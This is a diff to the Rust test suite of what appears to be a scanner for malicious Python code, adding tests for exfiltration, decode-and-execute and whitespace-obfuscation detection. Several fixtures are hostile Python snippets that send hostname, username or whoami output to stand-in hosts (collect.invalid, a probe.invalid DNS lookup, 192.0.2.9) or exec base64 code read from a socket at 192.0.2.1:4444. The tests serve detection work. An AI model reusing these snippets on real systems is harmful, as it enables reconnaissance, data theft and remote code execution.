@@ -168,6 +168,13 @@ fn whitespace_hidden_code() {
         })
         .expect("the hidden code is reported");
     assert_eq!(hidden.offset as usize, src.find("  ").expect("spaces"));
+    // A table drawn in a docstring, its border far to the right, hides nothing.
+    let src = format!("DOC = '''\n│ name │{}│\n'''\n", " ".repeat(190));
+    assert!(
+        !kinds(&src).contains(&K::Obfuscation),
+        "{:?}",
+        details(&src)
+    );
 }
 
 #[test]
@@ -749,10 +756,7 @@ fn constant_code_dropped_to_a_file_and_run_by_the_interpreter() {
         "import os, sys, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(b'[tool]\\nname = \"demo\"\\nthreads = 4\\n')\nf.close()\nos.system(f'{sys.executable} -m demo.configure {f.name}')\n",
     ] {
         let d = details(src);
-        assert!(
-            !d.iter().any(|x| x.starts_with("DownloadExecute")),
-            "{d:?}"
-        );
+        assert!(!d.iter().any(|x| x.starts_with("DownloadExecute")), "{d:?}");
     }
 }
 
@@ -766,4 +770,79 @@ fn loop_over_credential_paths_reads_them() {
     let src = "import os\nfor rel in ('README.md', 'CHANGES.rst'):\n    with open(os.path.join(os.path.dirname(__file__), rel)) as fh:\n        print(fh.read())\n";
     let d = details(src);
     assert!(!d.iter().any(|x| x.starts_with("SecretRead")), "{d:?}");
+}
+
+#[test]
+fn host_details_sent_home_are_exfiltration() {
+    // A probe that reports where it was installed: host, user, system, the output of a
+    // reconnaissance command, gathered in one function and sent from another.
+    for src in [
+        "import socket, getpass, requests\nrequests.post('https://collect.invalid/p', json={'h': socket.gethostname(), 'u': getpass.getuser()})\n",
+        "import os, platform, urllib.request\ndef gather():\n    return {'sys': ' '.join(platform.uname()), 'user': os.environ.get('USER', '')}\ndef send():\n    data = json.dumps(gather()).encode()\n    urllib.request.urlopen('https://collect.invalid/b', data=data)\nsend()\n",
+        "import subprocess, socket, binascii\nwho = subprocess.check_output(['whoami']).strip()\nsocket.gethostbyname(binascii.hexlify(who).decode() + '.probe.invalid')\n",
+        "import os, platform, urllib.request\nq = '&'.join('{}={}'.format(k, v) for k, v in (('n', platform.node()), ('d', os.getcwd())))\nurllib.request.urlopen('http://192.0.2.9/s?' + q)\n",
+    ] {
+        let d = details(src);
+        assert!(
+            d.iter()
+                .any(|x| x.starts_with("SecretExfiltration") && x.contains("host details")),
+            "{src}: {d:?}"
+        );
+    }
+    // Host details used locally, and a request that carries none, are not.
+    for src in [
+        "import socket, logging, requests\nlogging.info('running on %s', socket.gethostname())\nrequests.get('https://pkg.invalid/latest.json')\n",
+        "import platform, requests\nua = 'demo/1.0 python/' + platform.python_version()\nrequests.get('https://pkg.invalid/latest.json', headers={'User-Agent': ua})\n",
+        "import socket\naddress = socket.gethostbyname(socket.gethostname())\n",
+    ] {
+        let d = details(src);
+        assert!(
+            !d.iter().any(|x| x.starts_with("SecretExfiltration")),
+            "{src}: {d:?}"
+        );
+    }
+}
+
+#[test]
+fn decoding_what_the_process_is_sent_is_no_payload() {
+    // A worker that reads encoded jobs from stdin or from a pipe it is handed: the code
+    // it runs comes from its parent, not from the package.
+    for src in [
+        "import sys, base64, pickle, subprocess\ndef serve():\n    job = pickle.loads(base64.b64decode(sys.stdin.readline().strip()))\n    subprocess.Popen(job['cmd'])\n",
+        "import types, marshal, base64\ndef run_next(read_fh):\n    code = marshal.loads(base64.b64decode(read_fh.readline().strip()))\n    return types.FunctionType(code, {})()\n",
+    ] {
+        let d = details(src);
+        assert!(
+            !d.iter().any(|x| x.starts_with("DecodeExecute")),
+            "{src}: {d:?}"
+        );
+    }
+    // A decoder helper handed a constant blob, and a payload read from a socket, still are.
+    for src in [
+        "import base64\ndef unpack(blob):\n    exec(base64.b64decode(blob))\nunpack('cHJpbnQoMSk=')\n",
+        "import socket, base64\ns = socket.create_connection(('192.0.2.1', 4444))\nexec(base64.b64decode(s.makefile().readline()))\n",
+    ] {
+        let d = details(src);
+        assert!(
+            d.iter()
+                .any(|x| x.starts_with("DecodeExecute") || x.starts_with("DownloadExecute")),
+            "{src}: {d:?}"
+        );
+    }
+}
+
+#[test]
+fn resolving_the_hosts_own_name_sends_nothing() {
+    let src = "import socket\ndef host():\n    return socket.gethostname().split('.')[0]\ndef address():\n    return socket.gethostbyname(host())\n";
+    let d = details(src);
+    assert!(
+        !d.iter().any(|x| x.starts_with("SecretExfiltration")),
+        "{d:?}"
+    );
+    let src = "import socket\nlabel = socket.gethostname().encode().hex()\nsocket.gethostbyname(label + '.q.probe.invalid')\n";
+    let d = details(src);
+    assert!(
+        d.iter().any(|x| x.starts_with("SecretExfiltration")),
+        "{d:?}"
+    );
 }
